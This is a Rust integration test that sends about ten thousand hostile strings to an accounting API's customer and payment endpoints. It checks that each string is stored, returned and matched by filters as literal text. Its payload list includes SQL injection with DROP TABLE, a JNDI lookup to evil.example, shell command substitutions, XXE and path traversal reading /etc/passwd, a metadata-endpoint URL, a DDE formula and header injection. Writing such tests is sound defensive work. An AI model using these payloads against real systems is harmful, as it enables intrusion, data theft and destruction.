//! S4: what looks like SQL, markup, a header or a template is text like any other.
//!
//! `FUNCHAL_HOSTILE_PAYLOADS` sets how many values are stored, over both databases together; the gate takes 10,000.

use serde_json::{Map, Value, json};
use surfaces::face::Face;

use super::grammar::literals::quoted;
use super::http::{Client, Request, encode};
use super::place::{Place, databases};
use super::random::{Random, count, with_seeds};

const PAYLOADS: usize = 10_000;

const ATTACKS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE customers; --",
    "\"; DROP TABLE customers; --",
    "') OR ('1'='1",
    "' UNION SELECT secret FROM clients --",
    "1; SELECT pg_sleep(5)",
    "'||(SELECT 1)||'",
    "$1",
    "?1",
    ":name",
    "@p1",
    "$$;--$$",
    "E'\\\\'",
    "\\'",
    "''",
    "'",
    "\"",
    "`x`",
    "/**/",
    "--",
    "%",
    "_",
    "%%",
    "\\%",
    "*",
    "[a-z]",
    "(?i)a",
    ".*",
    "^$",
    "x' ESCAPE '\\",
    "'::text",
    "0x27",
    "CHR(39)",
    "a\r\nX-Injected: 1",
    "a\nSet-Cookie: b=c",
    "%0d%0aX-Injected:%201",
    "\u{2028}x",
    "a\u{0}b",
    "\u{1b}[31mred",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{name}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "`id`",
    "|id",
    "&& id",
    "\",\"amount\":1,\"x\":\"",
    "\\\",\\\"x\\\":1",
    "}],\"value\":[{",
    "\\u0027",
    "\\u0000",
    "null",
    "true",
    "{\"a\":1}",
    "[1]",
    "<script>alert(1)</script>",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;&amp;&#39;",
    "<?xml version=\"1.0\"?>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\tx",
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "\u{202e}evil",
    "\u{200b}",
    "\u{feff}",
    "e\u{301}",
    "é",
    "İı",
    "ﬁ",
    "🧾",
    "𝔄",
    "\u{10ffff}",
    " eq ",
    "a eq 'b'",
    "$filter=1",
    "&$top=1",
    "#",
    "+",
    "a+b",
];

#[test]
fn payloads_are_stored_returned_and_found_literally() {
    with_seeds("hostile-injection", store_payloads);
}

fn store_payloads(seed: u64) {
    let databases = databases();
    let payloads = count("FUNCHAL_HOSTILE_PAYLOADS", PAYLOADS) / databases.len();
    for database in databases {
        let place = Place::start(database);
        let mut attacker =
            Attacker { client: place.client(), random: Random::new(seed), place: &place, number: 0 };
        while attacker.number < payloads {
            let face = *attacker.random.pick(&Face::PUBLISHED);
            attacker.customer(face);
            attacker.payment(face);
        }
        attacker.everything_still_stands();
    }
}

struct Attacker<'a> {
    client: Client,
    random: Random,
    place: &'a Place,
    number: usize,
}

impl Attacker<'_> {
    /// Text properties of a customer that are kept as they are, and how long they may be.
    fn customer(&mut self, face: Face) {
        let mut body = self.values(&[("displayName", 100), ("website", 255)]);
        if face == Face::V2 {
            body.extend(self.values(&[
                ("addressLine1", 100),
                ("addressLine2", 50),
                ("city", 30),
                ("state", 30),
            ]));
        }
        self.store_and_find(face, "customers", body);
    }

    fn payment(&mut self, face: Face) {
        let journals =
            self.client.read(&format!("{}/customerPaymentJournals", self.place.company_path(face)));
        let journal = journals["value"][0]["id"].as_str().unwrap_or_default().to_owned();
        let mut body = self.values(&[("description", 100), ("comment", 250)]);
        if face != Face::V2 {
            body.extend(self.values(&[("contactId", 250)]));
        }
        let set = format!("customerPaymentJournals({journal})/customerPayments");
        self.store_and_find(face, &set, body);
    }

    fn values(&mut self, properties: &[(&str, usize)]) -> Map<String, Value> {
        let mut values = Map::new();
        for (name, length_max) in properties {
            let attack = *self.random.pick(ATTACKS);
            // With a number in it each value is found once; in front, behind, or around it.
            let tag = format!("{}", self.number);
            let text = match self.random.below(3) {
                0 => format!("{tag}{attack}{tag}"),
                1 => format!("x{attack}{tag}"),
                _ => format!("{tag} {attack}.",),
            };
            let text: String = text.chars().filter(|character| *character != '\0').collect();
            if text.chars().count() <= *length_max {
                values.insert((*name).to_owned(), Value::from(text));
                self.number += 1;
            }
        }
        values
    }

    fn store_and_find(&mut self, face: Face, set: &str, values: Map<String, Value>) {
        let target = format!("{}/{set}", self.place.company_path(face));
        let sent = Value::Object(values.clone());
        let made = self.client.ask(&Request::new("POST", &target).json(&sent));
        assert_eq!(made.status, 201, "POST {target} {sent}: {}", made.text());
        assert!(
            made.header("x-injected").is_none() && made.header("set-cookie").is_none(),
            "{sent}: {:?}",
            made.headers
        );
        let made = made.json();
        let id = made["id"].as_str().unwrap_or_default().to_owned();
        let read = self.client.read(&format!("{target}({id})"));
        for (name, value) in &values {
            assert_eq!(&made[name], value, "POST {target}: {name}");
            assert_eq!(&read[name], value, "GET {target}({id}): {name}");
        }
        let filterable: Vec<_> = values.iter().collect();
        for (name, value) in filterable {
            let literal = quoted(value.as_str().unwrap_or_default());
            let filter = match self.random.below(3) {
                0 => format!("{name} eq {literal}"),
                1 => format!("startswith({name},{literal})"),
                _ => format!("contains({name},{literal}) and {name} in ({literal},'')"),
            };
            let query = encode(&filter, "");
            let found = self.client.read(&format!("{target}?$select=id&$filter={query}"));
            let ids: Vec<&str> = found["value"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|row| row["id"].as_str())
                .collect();
            assert_eq!(ids, [id.as_str()], "GET {target}?$filter={filter}");
        }
    }

    fn everything_still_stands(&mut self) {
        let company = self.place.company_path(Face::V2);
        let customers = self.client.read(&format!("{company}/customers?$filter=number%20eq%20%27C-100%27"));
        assert_eq!(customers["value"][0]["displayName"], json!("Alder Foods"));
        let zero = json!({ "displayName": "a\0b" });
        let answer = self.client.ask(&Request::new("POST", format!("{company}/customers")).json(&zero));
        // PostgreSQL cannot hold the character U+0000, so no database takes it.
        assert_eq!(answer.status, 400, "{}", answer.text());
    }
}
